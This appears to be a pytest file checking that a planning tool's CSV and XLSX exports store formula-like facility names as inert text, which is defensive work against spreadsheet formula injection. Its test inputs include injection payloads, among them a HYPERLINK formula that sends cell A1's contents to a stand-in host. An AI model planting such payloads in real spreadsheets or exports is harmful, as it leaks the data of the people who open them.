"""Spreadsheet-safe tables: a name that starts like a formula is text in every XLSX cell and neutralised in every CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from planner import io, regions
from planner.cli import main

NAMES = ["=1+1", "@SUM(A1)", "+1", "-1+2", "\t=1", '=HYPERLINK("http://x.example/?"&A1,"ok")']
DANGER = io.FORMULA_START


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe_csv(path: Path) -> list[str]:
    """No cell of a CSV starts like a formula unless it is a number; returns every cell."""
    cells = [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    bad = [c for c in cells if c.startswith(DANGER) and not _number(c)]
    assert not bad, f"{path.name}: {bad[:5]}"
    return cells


def assert_safe_xlsx(path: Path) -> list[object]:
    """No cell of a workbook is a formula; returns every value."""
    wb = openpyxl.load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(DANGER):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{path.name} {ws.title}!{cell.coordinate}"
                values.append(cell.value)
    return values


def test_the_helper_neutralises_text_only() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "@SUM(A1)", "+1", "-1+2", "\t=1", "\r=1", "安全", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8],
                          "x": [-0.5] * 8})
    out = io.safe_frame(frame)
    assert list(out["name"])[:7] == ["'=1+1", "'@SUM(A1)", "'+1", "'-1+2", "'\t=1", "'\r=1", "安全"]
    assert pd.isna(out["name"].iloc[7])
    assert list(out["n"]) == [-1, 2, 3, 4, 5, 6, 7, 8] and out["n"].dtype == frame["n"].dtype  # numbers stay numbers
    assert [io.spreadsheet_text(v) for v in out["name"]][:7] == list(frame["name"])[:7]


def test_a_plan_with_formula_names_writes_them_as_text(tmp_path: Path) -> None:
    from planner.vocabulary import Grade

    fac = regions.load("义乌市").facilities
    fac = fac.drop(columns=["context"]).assign(grade=lambda f: [Grade(int(g)).zh for g in f["grade"]])
    ids = ["H330782-01", *[i for i in fac.index if i.startswith("T")][: len(NAMES) - 1]]
    for fid, name in zip(ids, NAMES):
        fac.loc[fid, "name"] = name
    io.write_layers({"facilities": fac.reset_index(drop=True)}, tmp_path / "fac.gpkg")
    plan = tmp_path / "plan"
    result = CliRunner().invoke(main, ["plan", "--region", "义乌市", "--facilities", str(tmp_path / "fac.gpkg"),
                                       "--out", str(plan), "--quiet", "--no-cache", "--no-maps"])
    assert result.exit_code == 0, result.output
    csv_cells = [c for p in sorted(plan.glob("*.csv")) for c in assert_safe_csv(p)]
    assert "'=1+1" in csv_cells and "'@SUM(A1)" in csv_cells and "'-1+2" in csv_cells   # the lead in communities.csv
    xlsx = sorted(plan.glob("*.xlsx"))
    assert {p.name for p in xlsx} >= {"report.xlsx", "services.xlsx"}
    values = [v for p in xlsx for v in assert_safe_xlsx(p)]
    assert "=1+1" in values   # the text itself, not a formula and not '=1+1
    names = set(pd.read_csv(plan / "members.csv", dtype=str, encoding="utf-8-sig")["facility_name"])
    for name in NAMES:
        shown = "'" + name.strip() if name.strip().startswith(DANGER) else name
        assert shown in names or "'" + name in names, (name, sorted(n for n in names if n.startswith("'")))
    # The planner reads its own neutralised tables back as the names (the checker, the maps).
    roster = io.read_csv_text(plan / "roster.csv")
    assert "=1+1" in set(roster["from_name"]) | set(roster.get("to_name", []))
    code = CliRunner().invoke(main, ["dispatch", str(plan), "--out", str(tmp_path / "roster.xlsx")])
    assert code.exit_code == 0, code.output
    assert "=1+1" in assert_safe_xlsx(tmp_path / "roster.xlsx")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_roster_template_writes_formula_names_as_text(fmt: str, tmp_path: Path) -> None:
    from planner.roster import export_region

    region = regions.load("义乌市")
    for fid, name in zip(region.facilities.index[:len(NAMES)], NAMES):
        region.facilities.loc[fid, "name"] = name
    target = tmp_path / ("roster.xlsx" if fmt == "xlsx" else "roster")
    export_region(region, target, fmt, layers=["facilities"])
    if fmt == "xlsx":
        values = assert_safe_xlsx(target)
        assert all(name in values for name in NAMES)
    else:
        cells = [c for p in sorted(target.glob("*.csv")) for c in assert_safe_csv(p)]
        assert all("'" + name in cells for name in NAMES)
        back = io.read_tables(target / "facilities.csv")[0].frame
        assert all(name.strip() in set(back.iloc[:, 1]) for name in NAMES)   # read back as the names (cells stripped)
